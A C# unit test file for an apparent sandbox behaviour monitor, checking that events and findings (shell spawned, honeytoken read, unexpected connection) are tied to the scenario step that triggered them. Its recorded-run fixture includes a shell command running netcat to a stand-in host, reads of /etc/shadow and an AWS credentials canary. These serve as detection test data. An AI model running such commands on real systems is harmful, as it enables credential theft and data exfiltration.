using System.Text.Json;
using DynamicProbe.Core.Analysis;
using DynamicProbe.Core.Events;
using DynamicProbe.Core.Findings;
using DynamicProbe.Core.Honeytokens;
using DynamicProbe.Core.Pipeline;
using DynamicProbe.Core.Policy;
using DynamicProbe.Core.Reports;
using DynamicProbe.Core.Scenarios;

namespace DynamicProbe.Core.Tests.Steps;

/// <summary>
/// Which step each event and finding belongs to, on a recorded run of a service driven by steps: start (line 10),
/// wait_for (11), three http requests (12 to 14), stop (15); the service reads a credential and runs a shell on the
/// third request, and a child it left behind connects out after the last step.
/// </summary>
public sealed class StepTimelineTests
{
    private static readonly DateTimeOffset T0 = new(2026, 12, 2, 1, 0, 0, TimeSpan.Zero);
    private static readonly Uri Url = new("http://127.0.0.1:8080/orders");

    private static readonly StepOutcome[] Steps =
    [
        Outcome(new StartStep(At(10)), 0, 5),
        Outcome(new WaitForStep(At(11), 8080, TimeSpan.FromSeconds(30)), 5, 900),
        Outcome(Http(At(12)), 900, 950),
        Outcome(Http(At(13)), 960, 990),
        Outcome(Http(At(14)), 1000, 1100),
        Outcome(new StopStep(At(15), "TERM", TimeSpan.FromSeconds(5)), 1100, 1300),
    ];

    [Test]
    public void An_event_belongs_to_the_step_whose_span_holds_it_exactly_at_the_bounds()
    {
        var timeline = new StepTimeline(Steps);

        Assert.That(timeline.Locate(Ms(0) - Tick), Is.EqualTo(StepRef.BeforeSteps));
        Assert.That(timeline.Locate(Ms(0)), Is.EqualTo(new StepRef(0, "start", 10)));
        Assert.That(timeline.Locate(Ms(900) - Tick), Is.EqualTo(new StepRef(1, "wait_for", 11)));
        Assert.That(timeline.Locate(Ms(900)), Is.EqualTo(new StepRef(2, "http", 12)));
        Assert.That(timeline.Locate(Ms(1000)), Is.EqualTo(new StepRef(4, "http", 14)));
        Assert.That(timeline.Locate(Ms(1300)), Is.EqualTo(new StepRef(5, "stop", 15)));
        Assert.That(timeline.Locate(Ms(1300) + Tick), Is.EqualTo(StepRef.AfterSteps));
    }

    [Test]
    public void What_a_step_set_off_just_after_it_returned_still_belongs_to_it()
    {
        // The second request ended at 990 ms and the third started at 1000 ms: the service's log write in between.
        var timeline = new StepTimeline(Steps);

        Assert.That(timeline.Locate(Ms(995)), Is.EqualTo(new StepRef(3, "http", 13)));
    }

    [Test]
    public void Without_a_started_step_everything_is_before_the_steps()
    {
        var neverStarted = new StepOutcome(new StartStep(At(10)), false, "the scenario timeout struck during this step");

        Assert.That(new StepTimeline([neverStarted]).Locate(Ms(10)), Is.EqualTo(StepRef.BeforeSteps));
        Assert.That(new StepTimeline([]).Locate(Ms(10)), Is.EqualTo(StepRef.BeforeSteps));
    }

    [Test]
    public async Task Every_event_and_finding_names_its_step()
    {
        var result = await Execute(RecordedRun());

        var shell = result.Findings.Single(f => f.Rule == "shell-spawned");
        Assert.That(shell.Steps, Is.EqualTo(new[] { new StepRef(4, "http", 14) }));
        Assert.That(shell.Evidence.Select(e => e.Step), Is.All.EqualTo(new StepRef(4, "http", 14)));
        var read = result.Findings.Single(f => f.Rule == HoneytokenAnalyzer.ReadRule);
        Assert.That(read.Steps, Is.EqualTo(new[] { new StepRef(4, "http", 14) }));
        var connect = result.Findings.Single(f => f.Rule == "unexpected-connect");
        Assert.That(connect.Steps, Is.EqualTo(new[] { StepRef.AfterSteps }));
    }

    [Test]
    public async Task A_finding_names_every_step_it_spans_also_past_its_kept_evidence()
    {
        // More occurrences than the evidence keeps: the last ones, in later steps, still name their steps.
        var reads = Enumerable.Range(0, BehaviourAnalyzer.MaxEvidencePerFinding + 5)
            .Select(i => (ProbeEvent)new FileEvent(Ms(i < BehaviourAnalyzer.MaxEvidencePerFinding ? 1 : 1050), 100 + i, "/app/Svc", FileOperation.Read, "/etc/shadow", -13))
            .Prepend(new FileEvent(Ms(-5), 7, "/app/Svc", FileOperation.Read, "/etc/shadow", -13));

        var result = await Execute(new PhaseRecording(Phase.Run, [.. reads], MonitorHealth.Healthy));

        var finding = result.Findings.Single(f => f.Evidence.All(e => e is FileEvent { Path: "/etc/shadow" }));
        Assert.That(finding.Evidence, Has.Count.EqualTo(BehaviourAnalyzer.MaxEvidencePerFinding));
        Assert.That(finding.Evidence.Select(e => e.Step), Has.None.EqualTo(new StepRef(4, "http", 14)));
        Assert.That(finding.Steps, Is.EqualTo(new[] { StepRef.BeforeSteps, new StepRef(0, "start", 10), new StepRef(4, "http", 14) }));
    }

    [Test]
    public async Task A_failed_step_names_itself()
    {
        var failed = Steps[..3].Append(Outcome(Http(At(13)), 960, 990) with { Succeeded = false, Detail = "expected status 200" }).ToArray();

        var result = await Execute(new PhaseRecording(Phase.Run, [], MonitorHealth.Healthy), failed);

        Assert.That(result.Findings.Single().Rule, Is.EqualTo("step-failed"));
        Assert.That(result.Findings.Single().Steps, Is.EqualTo(new[] { new StepRef(3, "http", 13) }));
    }

    [Test]
    public void Build_events_are_labelled_build()
    {
        var build = new PhaseRecording(Phase.Build, [new FileEvent(Ms(1), 3, "/usr/bin/dotnet", FileOperation.Read, "/src/a.cs", 3)], MonitorHealth.Healthy);

        Assert.That(StepTimeline.Label(build, StepRef.Build).Events.Single().Step, Is.EqualTo(StepRef.Build));
    }

    [Test]
    public async Task The_json_report_gives_each_event_and_finding_its_step_and_labels_our_requests()
    {
        var result = await Execute(RecordedRun());
        var report = new RunReport([result], Severity.Low, T0, T0.AddSeconds(2));

        using var json = JsonDocument.Parse(JsonReportWriter.Serialize(report));

        var scenario = json.RootElement.GetProperty("scenarios")[0];
        var shell = scenario.GetProperty("findings").EnumerateArray().Single(f => f.GetProperty("rule").GetString() == "shell-spawned");
        Assert.That(shell.GetProperty("step").GetRawText(), Is.EqualTo("""{"index":4,"kind":"http","line":14}""").IgnoreWhiteSpace);
        Assert.That(shell.GetProperty("steps").GetArrayLength(), Is.EqualTo(1));
        Assert.That(shell.GetProperty("evidence")[0].GetProperty("step").GetProperty("index").GetInt32(), Is.EqualTo(4));
        var connect = scenario.GetProperty("findings").EnumerateArray().Single(f => f.GetProperty("rule").GetString() == "unexpected-connect");
        Assert.That(connect.GetProperty("evidence")[0].GetProperty("step").GetRawText(), Is.EqualTo("""{"kind":"after-steps"}""").IgnoreWhiteSpace);

        var third = scenario.GetProperty("steps")[4];
        Assert.That(third.GetProperty("index").GetInt32(), Is.EqualTo(4));
        Assert.That(third.GetProperty("durationMs").GetInt64(), Is.EqualTo(100));
        Assert.That(third.GetProperty("started").GetDateTimeOffset(), Is.EqualTo(Ms(1000)));
        var http = third.GetProperty("http");
        Assert.That(http.GetProperty("issuedBy").GetString(), Is.EqualTo("dynamicprobe"));
        Assert.That(http.GetProperty("status").GetInt32(), Is.EqualTo(201));
        Assert.That(http.GetProperty("responseBody").GetString(), Is.EqualTo("created"));
    }

    [Test]
    public async Task The_console_shows_a_timeline_with_the_findings_of_each_step()
    {
        var result = await Execute(RecordedRun());
        var output = new StringWriter();

        new ConsoleReportWriter(output).WriteScenario(result, new RunReport([result], Severity.Low, T0, T0));

        var lines = output.ToString().Split('\n');
        Assert.That(lines, Has.Some.Match(@"^    steps\[1\] wait_for +line 11 +ok +0\.90s$"));
        Assert.That(lines, Has.Some.Match(@"^    steps\[4\] http +line 14 +ok +0\.10s  POST http://127\.0\.0\.1:8080/orders -> 201  findings: .*shell-spawned"));
        Assert.That(lines, Has.Some.Match(@"^    after-steps +findings: unexpected-connect$"));
        Assert.That(lines, Has.Some.Match(@"shell-spawned T1059\.004: .*\[during steps\[4\] http line 14\]$"));
    }

    /// <summary>A run of the steps above, as the monitor records it.</summary>
    private static PhaseRecording RecordedRun() => new(
        Phase.Run,
        [
            new ProcessExecEvent(Ms(2), 7, "/app/Svc", 6, "/app/Svc", ["/app/Svc"], 0),
            new NetworkEvent(Ms(400), 7, "/app/Svc", NetworkOperation.Bind, AddressFamily.Inet, "127.0.0.1", 8080, 0),
            new FileEvent(Ms(1010), 7, "/app/Svc", FileOperation.Read, "/home/probe/.aws/credentials", 3),
            new ProcessForkEvent(Ms(1020), 7, "/app/Svc", 9),
            new ProcessExecEvent(Ms(1021), 9, "/app/Svc", 7, "/bin/sh", ["/bin/sh", "-c", "sleep 1; nc collector.example.com 443"], 0),
            new NetworkEvent(Ms(1400), 9, "/bin/sh", NetworkOperation.Connect, AddressFamily.Inet, "203.0.113.9", 443, -101),
        ],
        MonitorHealth.Healthy);

    private static async Task<ScenarioResult> Execute(PhaseRecording run, IReadOnlyList<StepOutcome>? steps = null)
    {
        var canary = new Honeytoken(HoneytokenKind.AwsCredentials, "/home/probe/.aws/credentials", null, "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY");
        var outcome = new RunOutcome(run, steps ?? Steps, false, "dynamicprobe/dotnet") { Honeytokens = [canary] };
        var executor = new ScenarioExecutor(
            new NoBuild(),
            new RecordedRunner(outcome),
            new Defaults(Expectations.Empty with { Processes = ["/app/Svc"], Listen = ["127.0.0.1:8080"] }),
            new BehaviourAnalyzer(RuleBook.BuiltIn()));
        var scenario = new Scenario(
            "svc",
            null,
            "/s/svc.yaml",
            new TargetSpec(null, TargetSpec.DefaultConfiguration, [], ["/app/Svc"], null),
            new SandboxSpec(null, NetworkMode.None, TimeSpan.FromSeconds(60), SandboxSpec.DefaultMemoryBytes, 1, 64, "probe", new Dictionary<string, string>(), null, null, true),
            [.. Steps.Select(s => s.Step)],
            Expectations.Empty,
            new BuildSpec(true, Expectations.Empty));
        return await executor.ExecuteAsync(scenario, CancellationToken.None);
    }

    private static readonly TimeSpan Tick = TimeSpan.FromTicks(1);

    private static DateTimeOffset Ms(int milliseconds) => T0.AddMilliseconds(milliseconds);

    private static SourceLocation At(int line) => new("/s/svc.yaml", line, 5);

    private static HttpStep Http(SourceLocation at) =>
        new(at, "POST", Url, "{}", new Dictionary<string, string>(), 201, null, StepDefaults.HttpTimeout);

    private static StepOutcome Outcome(ScenarioStep step, int startMs, int endMs) => new(step, true, "ok")
    {
        Started = Ms(startMs),
        Ended = Ms(endMs),
        Http = step is HttpStep http ? new HttpExchange(http.Method, http.Url.ToString(), 201, "created", 7, false) : null,
    };

    private sealed class RecordedRunner(RunOutcome outcome) : ISandboxRunner
    {
        public Task<RunOutcome> RunAsync(Scenario scenario, BuiltTarget? target, IStepProgress progress, CancellationToken cancellationToken) => Task.FromResult(outcome);
    }

    private sealed class NoBuild : ITargetBuilder
    {
        public Task<BuildOutcome> BuildAsync(Scenario scenario, CancellationToken cancellationToken) =>
            throw new InvalidOperationException("a command target is not built");
    }

    private sealed class Defaults(Expectations defaults) : IAllowanceSource
    {
        public Task<Expectations> ForImageAsync(string image, CancellationToken cancellationToken) => Task.FromResult(defaults);
    }
}
